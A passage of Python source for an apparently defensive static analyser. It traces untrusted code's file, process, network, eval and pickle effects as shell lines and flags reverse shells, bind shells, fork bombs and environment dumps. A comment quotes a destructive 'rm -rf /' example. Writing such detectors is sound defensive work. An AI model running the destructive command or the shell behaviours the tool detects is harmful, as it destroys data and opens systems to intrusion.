        if attr in _REFLECT:
            self.opaque(f"calls {attr}, which looks up code at run time")
            return Unknown(frozenset({"dyn"}))
        if isinstance(obj, Unknown):
            if attr in _DATA_METHODS:
                return _unknown(obj, *args)
            self.check_tainted(obj)
            if "dyn" in obj.taint or "net" in obj.taint:
                self.opaque("calls a method of a value the model cannot follow")
            elif attr in _RUN_METHODS:
                self.check_tainted(*args, *kw.values())
                self.library_call(attr, args, kw)
            elif "class" not in obj.taint:
                self.library_call(attr, args, kw)
            return _unknown(obj)
        if isinstance(obj, dict) and attr in ("get", "keys", "values", "items", "copy"):
            if attr == "get" and args:
                try:
                    return obj.get(args[0], args[1] if len(args) > 1 else None)  # type: ignore[call-overload]
                except Exception:
                    return UNKNOWN
            return UNKNOWN
        if isinstance(obj, (list, tuple)) and attr in ("append", "extend", "index", "count", "copy", "pop", "sort", "insert"):
            return UNKNOWN
        if isinstance(obj, Func | Code | SockFd):
            return UNKNOWN
        self.s.unknown_call = True
        return UNKNOWN

    def str_method(self, obj: str | bytes, attr: str, args: list[object], kw: dict[str, object]) -> object:
        if attr not in _SAFE_STR_METHODS:
            return _unknown(*args)
        if attr == "format" and isinstance(obj, str) and not _bounded_format(obj):
            return UNKNOWN
        if attr in _SIZED_METHODS and any(isinstance(a, int) and a > MAX_DECODED for a in args):
            return UNKNOWN
        if attr == "join":
            seq = args[0] if args else None
            if isinstance(seq, (list, tuple)) and all(type(x) is type(obj) for x in seq):
                out = obj.join(seq)  # type: ignore[arg-type]
                return out if len(out) <= MAX_DECODED else UNKNOWN
            if isinstance(seq, (list, tuple)) and isinstance(obj, str):
                known = [x for x in seq if isinstance(x, str)]
                lead = []
                for x in seq:
                    if not isinstance(x, str):
                        break
                    lead.append(x)
                return _unknown(*[x for x in seq if x not in known], prefix=obj.join(lead))
            return _unknown(seq)
        if attr == "decode" and isinstance(obj, bytes):
            enc = args[0] if args else kw.get("encoding", "utf-8")
            if isinstance(enc, str) and enc.lower().replace("-", "_") in ("rot13", "rot_13", "hex", "base64", "zlib"):
                return _codec(obj, enc, False)
        if attr == "encode" and isinstance(obj, str):
            enc = args[0] if args else kw.get("encoding", "utf-8")
            if isinstance(enc, str) and enc.lower().replace("-", "_") in ("rot13", "rot_13"):
                return _codec(obj, enc, True)
        if not all(_is_const(a) or isinstance(a, dict) for a in args) or not all(_is_const(v) for v in kw.values()):
            return _unknown(*args, *kw.values())
        try:
            out = getattr(obj, attr)(*args, **kw)
        except Exception:
            return UNKNOWN
        if isinstance(out, (str, bytes)) and len(out) > MAX_DECODED:
            return UNKNOWN
        return out

    def path_method(self, p: PathV | Glob, attr: str, args: list[object], kw: dict[str, object]) -> object:
        """A ``pathlib.Path`` method; on a pattern (each path ``rglob`` yields) it acts on
        every match."""
        import posixpath

        text = p.path if isinstance(p, PathV) else p.pattern

        def same_kind(path: object) -> object:
            if not isinstance(path, str):
                return path
            return PathV(path) if isinstance(p, PathV) else Glob(path)

        if attr in ("expanduser", "resolve", "absolute", "__fspath__"):
            return p
        if attr == "joinpath":
            return same_kind(_join(text, *args))
        if attr in ("with_name", "with_suffix") and args and isinstance(args[0], str):
            base, ext = posixpath.splitext(text)
            return same_kind(base + args[0] if attr == "with_suffix" else posixpath.join(posixpath.dirname(text), args[0]))
        if attr in ("glob", "rglob", "iterdir"):
            pattern = _text(args[0]) if args else "*"
            if pattern is None:
                return _unknown(*args)
            return [Glob(posixpath.join(text, "**", pattern) if attr == "rglob" else posixpath.join(text, pattern))]
        if attr in ("read_text", "read_bytes"):
            return self.read_file(p.path if isinstance(p, PathV) else p)
        if attr == "open":
            return self._k_open("open", [p, *args], kw)
        if attr in ("write_text", "write_bytes"):
            self.write(Handle(p.path if isinstance(p, PathV) else p, True, False), args[0] if args else kw.get("data", UNKNOWN))
            return None
        if attr == "unlink":
            return self._k_remove("os.remove", [p], {})
        if attr == "rmdir":
            return self._k_rmdir("os.rmdir", [p], {})
        if attr == "mkdir":
            return self._k_mkdir("os.mkdir", [p], {})
        if attr == "touch":
            self.path_line(["touch", "--"], [p], "touch")
            return None
        if attr == "chmod":
            return self._k_chmod("os.chmod", [p, *args], kw)
        if attr in ("rename", "replace"):
            return self._k_move("os.rename", [p, *args], kw)
        if attr in ("symlink_to", "hardlink_to"):
            target = args[0] if args else UNKNOWN
            return (self._k_symlink if attr == "symlink_to" else self._k_link)("", [target, p], {})
        if attr in ("exists", "is_dir", "is_file", "is_symlink", "stat", "lstat", "owner", "group", "samefile", "match",
                    "is_absolute", "relative_to", "as_posix", "as_uri", "__str__"):
            return (p.path if isinstance(p, PathV) else p) if attr in ("as_posix", "__str__") else UNKNOWN
        self.s.unknown_call = True
        return UNKNOWN

    def sock_method(self, sock: Sock, attr: str, args: list[object]) -> object:
        if attr in ("connect", "connect_ex"):
            sock.role = "client"
            self.send(_addr(args[0] if args else UNKNOWN))
        elif attr == "bind":
            sock.role = "server"
            self.s.acts = True
        elif attr == "listen":
            sock.role = "server"
        elif attr == "accept":
            return (Sock("server"), UNKNOWN)
        elif attr == "fileno":
            return SockFd(sock)
        elif attr in ("recv", "recvfrom", "makefile", "read", "recv_into"):
            return Unknown(frozenset({f"sock:{sock.role}"}))
        elif attr in ("sendto",) and len(args) > 1:
            self.send(_addr(args[1]))
        elif attr in ("send", "sendall"):
            self.s.acts = True
        elif attr in ("wrap_socket",):
            return sock
        return None

    # ---------------------------------------------------------------- effects
    def write(self, handle: Handle, data: object) -> None:
        path = _word(handle.path)
        self.s.acts = True
        self.s.written.add(_text(handle.path) or "")
        if path is None:
            self.opaque("writes a file the model cannot name")
            return
        if isinstance(data, (list, tuple)):
            data = _unknown(*data)
        text = _text(data) if not isinstance(data, (int, PathV)) else None
        redirect = ">>" if handle.append or handle.written else ">"
        handle.written = True
        content = shell_word(text) if text is not None else "unknown"
        self.line(f"printf %s {content} {redirect} {path}")
        if "net" in _taint(data):
            self.s.net_files.add(_text(handle.path) or "")

    def read_file(self, p: object) -> object:
        word = _word(p)
        if word is None:
            self.s.unknown_read = True
            return Unknown(frozenset({"file"}))
        self.line(f"cat -- {word}", acts=False)
        path = _text(p)
        return Unknown(frozenset({"net", "file"} if path in self.s.net_files else {"file"}))

    def path_line(self, head: list[str], paths: list[object], what: str) -> None:
        if head[0] in ("cp", "mv", "ln") and paths:
            self.s.written.add(_text(paths[-1]) or "")
        if head[0] in ("rm", "rmdir") and len(paths) == 1 and isinstance(paths[0], Glob):
            found = _find_delete(paths[0].pattern, head)
            if found is not None:
                self.line(found)
                return
        words = [_word(p) for p in paths]
        if any(w is None for w in words):
            self.opaque(f"{what} of a path the model cannot name")
            return
        self.line(" ".join([*head, *(w for w in words if w is not None)]))

    def argv_line(self, argv: object, what: str, kw: dict[str, object]) -> None:
        """A process with ``argv`` (a list, or a string a shell reads)."""
        prefix = ""
        cwd = kw.get("cwd")
        if cwd is not None:
            word = _word(cwd)
            if word is None:
                self.process(None, what, cwd)
                return
            prefix = f"cd -- {word} && "
        for stream in ("stdin", "stdout", "stderr"):
            v = kw.get(stream)
            if isinstance(v, (Sock, SockFd)):
                sock = v.sock if isinstance(v, SockFd) else v
                self.s.wired.add(sock.role)
        if isinstance(argv, PathV):
            argv = [argv.path]
        if isinstance(argv, Glob):  # ``'rm -rf ' + os.path.join(h, name)`` for each name: the shell line's own glob
            self.process(prefix + argv.pattern, what)
            return
        if isinstance(argv, (list, tuple)) and any(isinstance(a, Glob) for a in argv):
            globbed = [_word(a) for a in argv]
            if all(w is not None for w in globbed):
                self.process(prefix + " ".join(w for w in globbed if w is not None), what)
                return
        if isinstance(argv, (str, bytes)):
            self.process(prefix + (_text(argv) or ""), what)
            return
        if not isinstance(argv, (list, tuple)) or not argv:
            self.process(None, what, argv)
            return
        texts = [_text(a) for a in argv]
        if any(t is None for t in texts):
            self.process(None, what, *argv)
            return
        words = [t for t in texts if t is not None]
        prog = words[0].rsplit("/", 1)[-1]
        if prog in _SHELLS and len(words) >= 3 and words[1].startswith("-") and words[1].endswith("c"):
            self.process(prefix + words[2], what)
            return
        stdin = kw.get("input")
        if prog in _SHELLS and len(words) == 1 or (prog in _SHELLS and words[1:] in (["-i"], ["-s"], ["-"])):
            if stdin is not None:
                text = _text(stdin)
                self.process(None if text is None else prefix + text, what, stdin)
                return
        self.process(prefix + shell_line(words), what)

    # The handlers below are named by CallRule.kind.
    def _k_shell(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        cmd = args[0] if args else kw.get("cmd", kw.get("command", UNKNOWN))
        self.argv_line(cmd, name, {})
        return Unknown(frozenset({"proc"}))

    def _k_popen(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        argv = args[0] if args else kw.get("args", UNKNOWN)
        if kw.get("shell") and isinstance(argv, (list, tuple)) and argv:
            argv = argv[0]
        exe = kw.get("executable")
        if isinstance(exe, str) and isinstance(argv, list) and argv:
            argv = [exe, *argv[1:]]
        self.argv_line(argv, name, kw)
        return Unknown(frozenset({"proc"}))

    def _k_argv_star(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.argv_line(list(args), name, kw)
        return Unknown(frozenset({"proc"}))

    def _k_exec(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        short = name.split(".")[-1]
        rest = args[1:] if short.startswith("spawn") else list(args)
        if not rest:
            self.process(None, name)
            return UNKNOWN
        path = rest[0]
        if short.startswith("posix_spawn"):
            argv = rest[1] if len(rest) > 1 else UNKNOWN
        elif "v" in short.removeprefix("exec").removeprefix("spawn"):
            argv = rest[1] if len(rest) > 1 else UNKNOWN
        else:
            argv = list(rest[1:-1] if short.endswith("e") else rest[1:])
        if isinstance(argv, (list, tuple)):
            argv = [path, *argv[1:]]
        self.argv_line(argv, name, kw)
        return UNKNOWN

    def _k_pty(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        argv = args[0] if args else UNKNOWN
        if isinstance(argv, str):
            argv = [argv]
        self.argv_line(argv, name, {})
        return UNKNOWN

    def _k_rmtree(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["rm", "-rf", "--"], [args[0] if args else kw.get("path", UNKNOWN)], "a tree delete")
        return None

    def _k_remove(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        path = args[0] if args else kw.get("path", UNKNOWN)
        if isinstance(path, (str, PathV)) and _text(path) in self.s.own_temp:
            return None
        self.path_line(["rm", "-f", "--"], [path], "a delete")
        return None

    def _k_rmdir(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["rmdir", "--"], [args[0] if args else UNKNOWN], "a directory removal")
        return None

    def _k_removedirs(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["rmdir", "-p", "--"], [args[0] if args else UNKNOWN], "a directory removal")
        return None

    def _two(self, args: list[object], kw: dict[str, object], a: str, b: str) -> list[object]:
        return [args[0] if args else kw.get(a, UNKNOWN), args[1] if len(args) > 1 else kw.get(b, UNKNOWN)]

    def _k_move(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["mv", "--"], self._two(args, kw, "src", "dst"), "a move")
        return None

    def _k_copy(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["cp", "--"], self._two(args, kw, "src", "dst"), "a copy")
        return None

    def _k_copytree(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["cp", "-r", "--"], self._two(args, kw, "src", "dst"), "a copy")
        return None

    def _k_chmod(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        mode = args[1] if len(args) > 1 else kw.get("mode")
        if not isinstance(mode, int):
            self.opaque("chmod with a computed mode")
            return None
        self.path_line(["chmod", format(mode, "o"), "--"], [args[0] if args else UNKNOWN], "chmod")
        return None

    def _k_chown(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        owner = args[1] if len(args) > 1 else kw.get("uid", kw.get("user"))
        group = args[2] if len(args) > 2 else kw.get("gid", kw.get("group"))
        ids = [_text(x) if x is not None and x != -1 else "" for x in (owner, group)]
        if any(i is None for i in ids):
            self.opaque("chown to a computed owner")
            return None
        spec = (ids[0] or "") + (f":{ids[1]}" if ids[1] else "")
        self.path_line(["chown", shell_word(spec or ":"), "--"], [args[0] if args else UNKNOWN], "chown")
        return None

    def _k_symlink(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["ln", "-s", "--"], self._two(args, kw, "src", "dst"), "a link")
        return None

    def _k_link(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["ln", "--"], self._two(args, kw, "src", "dst"), "a link")
        return None

    def _k_mkdir(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["mkdir", "-p", "--"], [args[0] if args else kw.get("name", UNKNOWN)], "mkdir")
        return None

    def _k_truncate(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        size = args[1] if len(args) > 1 else kw.get("length", UNKNOWN)
        self.path_line(["truncate", "-s", _text(size) or "0", "--"], [args[0] if args else UNKNOWN], "truncate")
        return None

    def _k_chdir(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.path_line(["cd", "--"], [args[0] if args else UNKNOWN], "a directory change")
        return None

    def _k_kill(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        pid, sig = (args + [UNKNOWN, UNKNOWN])[:2]
        self.s.matters = True
        if isinstance(pid, int) and isinstance(sig, int):
            self.line(f"kill -{sig} {'-' if name.endswith('pg') else ''}{pid}")
        else:
            self.opaque("a signal to a computed process")
        return None

    def _k_open(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        path = args[0] if args else kw.get("file", UNKNOWN)
        mode = args[1] if len(args) > 1 else kw.get("mode", "r")
        if isinstance(path, int):
            return Handle(path, mode != "r", False) if isinstance(mode, str) else UNKNOWN
        if not isinstance(mode, str):
            handle = Handle(path, True, True)
            self.write(handle, UNKNOWN)
            return handle
        writes = any(c in mode for c in "wax+")
        if not writes:
            self.read_file(path)
            return Handle(path, False, False)
        handle = Handle(path, True, "a" in mode)
        if "w" in mode or "x" in mode:
            self.s.acts = True
        return handle

    def _k_os_open(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        path = args[0] if args else UNKNOWN
        flags = args[1] if len(args) > 1 else kw.get("flags", 0)
        if flags == 0:
            self.read_file(path)
            return Handle(path, False, False)
        return Handle(path, True, isinstance(flags, int) and bool(flags & 0o2000))

    def _k_os_write(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        fd = args[0] if args else UNKNOWN
        data = args[1] if len(args) > 1 else UNKNOWN
        if fd == 1:
            return self.print("sys.stdout.write", [data], {})
        if fd == 2:
            return None
        if isinstance(fd, Handle):
            if not fd.write:
                fd.write = True
            self.write(fd, data)
        else:
            self.s.acts = self.s.matters = True
            self.check_tainted(data)
        return None

    def _k_eval(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        src = args[0] if args else kw.get("source", UNKNOWN)
        if isinstance(src, Code):
            src = src.source
        return self.evaluate(src, "eval" if name == "eval" else "exec")

    def evaluate(self, src: object, mode: str) -> object:
        self.s.acts = True
        text = _text(src)
        if text is None or isinstance(src, int):
            self.check_tainted(src)
            for mark in sorted(_taint(src)):
                if mark.startswith(_FROM_FILE):  # ``exec(open(p).read())`` runs the file p
                    self.line(f"python3 {shell_word(mark[len(_FROM_FILE):])}")
            self.opaque("evaluates code the model cannot read")
            return UNKNOWN
        if self.depth >= MAX_DEPTH:
            self.opaque("evaluates code nested too deep")
            return UNKNOWN
        ast = self.ast
        try:
            tree: _ast.AST = ast.parse(text, mode="eval") if mode == "eval" else ast.parse(text)
        except SyntaxError:
            try:
                tree = ast.parse(text)
            except SyntaxError:
                self.opaque("evaluates code that does not parse")
                return UNKNOWN
        self.depth += 1
        try:
            if isinstance(tree, ast.Expression):
                return self.ev(tree.body)
            assert isinstance(tree, ast.Module)
            self.run(tree.body)
        finally:
            self.depth -= 1
        return None

    def _k_compile(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        return Code(args[0] if args else kw.get("source", UNKNOWN))

    def _k_opaque_eval(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.check_tainted(*args)
        self.opaque(f"{name} runs what the data names")
        return UNKNOWN

    def _k_unpickle(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        data = args[0] if args else kw.get("data", UNKNOWN)
        calls = _pickle_calls(data) if isinstance(data, (bytes, bytearray)) else None
        if calls is None:
            return self._k_opaque_eval(name, args, kw)
        for target, texts in calls:
            rule = _rule(target)
            if rule is None and not _is_harmless(target):
                self.opaque(f"{name} calls {target}, which the model does not know")
            elif rule is not None:
                given: list[object] = [list(texts)] if rule.kind in ("popen", "exec", "pty") else list(texts)
                self.apply(Ref(target), given, {})
        return UNKNOWN

    def _k_runpy(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        target = args[0] if args else UNKNOWN
        argv = ["python3", "-m", target] if name.endswith("module") else ["python3", target]
        self.argv_line(argv, name, {})
        return UNKNOWN

    def _k_import(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        mod = args[0] if args else kw.get("name", UNKNOWN)
        if isinstance(mod, str):
            self.s.imported.add(mod)
            return Ref(_canon(mod))
        self.check_tainted(mod)
        return Unknown(frozenset({"dyn"}))

    def _k_url(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        index = 1 if name.endswith("request") and name not in ("requests.request",) and len(args) > 1 else 0
        if name in ("requests.request", "httpx.request", "httpx.stream", "aiohttp.request") and len(args) > 1:
            index = 1
        url = args[index] if len(args) > index else kw.get("url", UNKNOWN)
        if isinstance(url, Response):
            url = url.url
        self.send(url)
        return Response(_text(url) or "unknown")

    def _k_urlretrieve(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        url = args[0] if args else kw.get("url", UNKNOWN)
        self.send(url)
        dest = args[1] if len(args) > 1 else kw.get("filename", kw.get("out"))
        if dest is not None:
            self.write(Handle(dest, True, False), Unknown(frozenset({"net"})))
        return (dest, UNKNOWN)

    def _k_request_obj(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        url = args[0] if args else kw.get("url", UNKNOWN)
        return Response(_text(url) or (url.prefix if isinstance(url, Unknown) and url.prefix else "unknown"))

    def _k_session(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        return Ref(name.split(".")[0] if not name.startswith("urllib3") else "urllib3.PoolManager")

    def _k_host_conn(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        host = args[0] if args else kw.get("host", UNKNOWN)
        self.send(host)
        return Conn(_text(host) or "unknown")

    def _k_socket(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.s.acts = self.s.matters = True
        if name == "socket.create_connection":
            self.send(_addr(args[0] if args else kw.get("address", UNKNOWN)))
            return Sock("client")
        if name == "ssl.wrap_socket" and args and isinstance(args[0], Sock):
            return args[0]
        return Sock("new")

    def _k_dup2(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.s.acts = self.s.matters = True
        fd = args[0] if args else None
        if isinstance(fd, (SockFd, Sock)):
            sock = fd.sock if isinstance(fd, SockFd) else fd
            self.s.wired.add(sock.role)
        return None

    def _k_fork(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.s.acts = True
        self.s.spawned = True
        if self.endless:
            self.s.flags.add("fork_bomb")
        for f in self.stack:
            self.s.forking_funcs.add(id(f))
        return UNKNOWN

    def _k_library(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.s.acts = True
        self.s.flags.add("library_load")
        return Unknown(frozenset({"dyn"}))

    def _k_env_dump(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.s.flags.add("env_dump")
        return Unknown(frozenset({"env"}))

    def _k_getenv(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        key = args[0] if args else kw.get("key", UNKNOWN)
        default = args[1] if len(args) > 1 else kw.get("default")
        return self.getenv(key if isinstance(key, str) else _SENTINEL, default)

    def _k_process_lib(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.process(None, name, *args, *kw.values())
        return Unknown(frozenset({"proc"}))

    def _k_network_lib(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        first = args[0] if args else kw.get("host", kw.get("uri", kw.get("server_address", UNKNOWN)))
        if isinstance(first, str) and len(args) > 1 and isinstance(args[1], int):
            first = (first, args[1])
        self.send(_addr(first))
        return UNKNOWN

    def _k_acts_lib(self, name: str, args: list[object], kw: dict[str, object]) -> object:
        self.opaque(f"{name}: a call that acts on files or packages the model does not follow")
        return UNKNOWN

    def library_call(self, name: str, args: list[object], kw: dict[str, object]) -> None:
        """A call of a library the model does not know: trusted as running a script is,
        except where it plainly runs something (a run-like name), is handed a URL (taken
        to be contacted), or is handed a name the caller must check (a secret file)."""
        self.s.unknown_call = True
        values: list[object] = [*args, *kw.values()]
        last = name.rsplit(".", 1)[-1]
        if last in _RUN_METHODS and any(_textual(v) for v in values):
            self.s.matters = True  # ``c.run('rm -rf /')``, ``cursor.execute(sql)``: the text may be a command
        if not self.s.matters and destroys(last):
            self.s.matters = True  # ``client.delete_index('prod')``, ``table.drop()``
        for v in values[:32]:
            for item in (v if isinstance(v, (list, tuple)) else [v])[:32]:
                text = item.pattern if isinstance(item, Glob) else _text(item) if isinstance(item, (str, bytes, PathV)) else None
                if text is None or len(text) > 4096 or "\n" in text:
                    continue
                if "://" in text[:16]:
                    self.send(text)
                elif len(self.s.handed) < 64 and text not in self.s.handed:
                    self.s.handed.append(text)

    def runs_written(self) -> bool:
        """The program writes (or copies into place) a file it then imports, or one Python
        runs by itself at start (``sitecustomize.py``, a ``.pth`` file): that code runs unread."""
        import posixpath

        names = {part for m in self.s.imported for part in m.split(".") if part}
        for path in self.s.written:
            base = posixpath.basename(path.rstrip("/"))
            stem = base[:-3] if base.endswith(".py") else base
            parent = posixpath.basename(posixpath.dirname(path.rstrip("/")))
            if not path or base in ("sitecustomize.py", "usercustomize.py") or base.endswith(".pth"):
                return True
            if stem in names or (base == "__init__.py" and parent in names) or (parent in names and base.endswith(".py")):
                return True
        return False

    # ----------------------------------------------------------------- result
    def effects(self, language: str) -> ProgramEffects:
        s = self.s
        flags = set(s.flags)
        if s.spawned and s.wired:
            if s.wired & {"client", "new"}:
                flags.add("reverse_shell")
            if "server" in s.wired:
                flags.add("bind_shell")
        if s.forking_funcs & s.recursive_funcs:
            flags.add("fork_bomb")
        opaque = list(s.opaque)
        if s.unknown_read and s.sends:
            opaque.append("reads a file the model cannot name and sends data")
        prints = "".join(s.printed) if s.printed else None
        # A file named at run time may be a secret: reading it is not known to be harmless.
        inert = not (s.acts or s.unknown_call or s.unknown_read or opaque or flags or s.sends)
        # Code whose effects are all harmless is harmless: calls of libraries the model does
        # not know are trusted (as ``python script.py`` is); file effects are shell lines.
        harmless = not (s.spawned or s.matters or s.unknown_read or opaque or flags or s.sends or self.runs_written())
        return ProgramEffects(
            language=language, shell=list(s.shell), sends=list(s.sends), fetch_run="fetch_run" in flags,
            reverse_shell="reverse_shell" in flags, bind_shell="bind_shell" in flags, fork_bomb="fork_bomb" in flags,
            env_dump="env_dump" in flags, library_load="library_load" in flags, prints=prints, opaque=opaque,
            inert=inert, harmless=harmless, handed=list(s.handed),
        )


def _namespace(name: str) -> str | None:
    """The module whose namespace ``name`` is (``os.__dict__`` → ``os``; the builtins'
    own, ``__builtins__`` or ``__dict__`` of it, → ``""``), or None."""
    if name in ("__builtins__", "builtins", "", "__dict__"):
        return ""
    if name.endswith(".__dict__"):
        return name[: -len(".__dict__")]
    return None


def _pickle_calls(data: bytes | bytearray) -> list[tuple[str, list[str]]] | None:
    """The callables a pickle names (``GLOBAL``/``STACK_GLOBAL``), each with the text
    constants that follow it, read with ``pickletools`` (nothing is unpickled); None
    when it does not parse or is too large."""
    import pickletools

    if len(data) > MAX_DECODED:
        return None
    calls: list[tuple[str, list[str]]] = []
    texts: list[str] = []
    called = 0
    try:
        for op, arg, _pos in pickletools.genops(bytes(data)):
            if op.name in ("REDUCE", "NEWOBJ", "NEWOBJ_EX", "OBJ", "INST"):
                called += 1
            if op.name in ("GLOBAL", "INST") and isinstance(arg, str):
                module, _, fn = arg.partition(" ")
                texts = []
                calls.append((_canon(f"{module}.{fn}"), texts))
            elif op.name == "STACK_GLOBAL":
                if len(texts) < 2:
                    return None
                module, fn = texts[-2], texts[-1]
                del texts[-2:]
                texts = []
                calls.append((_canon(f"{module}.{fn}"), texts))
            elif isinstance(arg, (str, bytes)) and any(k in op.name for k in ("UNICODE", "STRING", "BYTES")):
                texts.append(arg.decode("utf-8", "replace") if isinstance(arg, bytes) else arg)
    except Exception:
        return None
    # a call of something no GLOBAL named calls a computed value (``getattr(os, 'system')``'s result)
    if called > len(calls) or any(name in _PICKLE_COMPUTES for name, _ in calls):
        return None
    return calls


#: Callables whose result is another callable (or that call one): a pickle using them
#: calls what the model cannot name.
_PICKLE_COMPUTES = frozenset({"getattr", "__import__", "importlib.import_module", "operator.attrgetter",
                              "operator.methodcaller", "operator.itemgetter", "functools.partial", "functools.reduce",
                              "map", "filter", "vars", "globals", "locals", "apply", "copyreg._reconstructor",
                              "object.__new__", "type"})


def _find_delete(pattern: str, head: list[str]) -> str | None:
    """A delete of each path a recursive pattern matches (``BASE/**/NAME``), as the
    ``find`` line that does the same: ``find BASE -name NAME -type f -delete`` for files
    (``rm -f``), without ``-type f`` for trees (``rm -rf``), ``-type d`` for ``rmdir``.
    None when the pattern is not recursive or has more parts after ``**``."""
    if "**" not in pattern.split("/"):
        return None
    parts = pattern.split("/")
    cut = parts.index("**")
    base = "/".join(parts[:cut]) or ("/" if pattern.startswith("/") else ".")
    rest = [x for x in parts[cut + 1:] if x not in ("", "**")]
    if len(rest) > 1 or any(c in base for c in "*?["):
        return None
    name = rest[0] if rest else "*"
    kind = " -type d" if head[0] == "rmdir" else "" if "-rf" in head or "-r" in head else " -type f"
    return f"find {_word(Glob(base))} -name {shell_word(name)}{kind} -delete"


def _addr(value: object) -> object:
    """``(host, port)`` → ``host:port``."""
    if isinstance(value, (tuple, list)) and len(value) >= 2:
        host, port = _text(value[0]), _text(value[1])
        if host is not None:
            return f"{host}:{port}" if port is not None else host
        return _unknown(value[0])
    return value


def _text_of(args: list[object], kw: dict[str, object]) -> str | None:
    """What ``print(*args, sep=, end=)`` writes, or None when any part is unknown."""
    sep, end = kw.get("sep", " "), kw.get("end", "\n")
    sep = " " if sep is None else sep
    end = "\n" if end is None else end
    if not isinstance(sep, str) or not isinstance(end, str):
        return None
    parts = []
    for a in args:
        if isinstance(a, (str, int, float, bool, type(None), bytes, list, tuple)) and _is_const(a):
            parts.append(str(a))
        elif isinstance(a, PathV):
            parts.append(a.path)
        else:
            return None
    return sep.join(parts) + end


def _is_environ(v: object) -> bool:
    """``v`` is the whole environment (``os.environ``)."""
    return isinstance(v, Ref) and v.name in ("os.environ", "os.environb")


def _acts(v: object) -> bool:
    """``v`` is a function with an effect (a known call that acts, or the program's own)."""
    return isinstance(v, Func) or (isinstance(v, Ref) and _rule(_canon(v.name)) is not None)


def _textual(v: object) -> bool:
    """``v`` is or may be text (a constant, or an unknown value from input, a file, the
    network or the environment), as opposed to an object or a function."""
    if isinstance(v, (str, bytes, list, tuple)):
        return not isinstance(v, (list, tuple)) or any(_textual(x) for x in v)
    return isinstance(v, Unknown) and bool(v.prefix or v.taint - {"class"})


def _truthy(v: object) -> bool:
    return bool(v) if _is_const(v) else True


def _safe_eq(a: object, b: object) -> bool:
    try:
        return bool(a is b or (type(a) is type(b) and a == b))
    except Exception:
        return False


def _binops() -> dict[str, Callable[[object, object], object]]:
    import operator

    return {"Add": operator.add, "Sub": operator.sub, "Mult": operator.mul, "Mod": operator.mod, "FloorDiv": operator.floordiv,
            "Div": operator.truediv, "BitOr": operator.or_, "BitAnd": operator.and_, "BitXor": operator.xor,
            "LShift": operator.lshift, "RShift": operator.rshift, "Pow": operator.pow}


_BINOPS = _binops()

#: The handler of each statement and expression kind, by node type: one lookup a node
#: instead of a test per kind. Filled when the first program is read (``ast`` is imported
#: then); a kind met without an entry takes that of the kind it derives from
#: (:func:`_handler`), or none (a statement that does nothing, an unknown value).
_STMT: dict[type, Callable[[_Interp, Any], None]] = {}
_EV: dict[type, Callable[[_Interp, Any], object]] = {}


def _fill_handlers(ast: Any) -> None:
    if _EV:
        return
    i = _Interp
    _STMT.update({
        ast.Expr: i.s_expr, ast.Assign: i.s_assign, ast.AnnAssign: i.s_annassign, ast.AugAssign: i.s_augassign,
        ast.Import: i.s_import, ast.ImportFrom: i.s_importfrom, ast.If: i.s_if, ast.For: i.loop_for,
        ast.AsyncFor: i.loop_for, ast.While: i.s_while, ast.With: i.s_with, ast.AsyncWith: i.s_with,
        ast.Try: i.s_try, getattr(ast, "TryStar", ast.Try): i.s_try, ast.FunctionDef: i.s_functiondef,
        ast.AsyncFunctionDef: i.s_functiondef, ast.ClassDef: i.s_classdef, ast.Return: i.s_return,
        ast.Raise: i.s_raise, ast.Assert: i.s_assert, ast.Match: i.s_match, ast.Delete: i.s_delete,
    })
    _EV.update({
        ast.Constant: i.e_constant, ast.Name: i.e_name, ast.Attribute: i.e_attribute, ast.Call: i.call,
        ast.BinOp: i.e_binop, ast.UnaryOp: i.e_unaryop, ast.BoolOp: i.e_boolop, ast.Compare: i.e_compare,
        ast.IfExp: i.e_ifexp, ast.List: i.e_sequence, ast.Tuple: i.e_sequence, ast.Set: i.e_sequence,
        ast.Dict: i.e_dict, ast.Subscript: i.e_subscript, ast.JoinedStr: i.fstring, ast.FormattedValue: i.e_formatted,
        ast.ListComp: i.e_comprehension, ast.GeneratorExp: i.e_comprehension, ast.SetComp: i.e_comprehension,
        ast.DictComp: i.e_dictcomp, ast.Lambda: i.e_lambda, ast.NamedExpr: i.e_namedexpr, ast.Await: i.e_value,
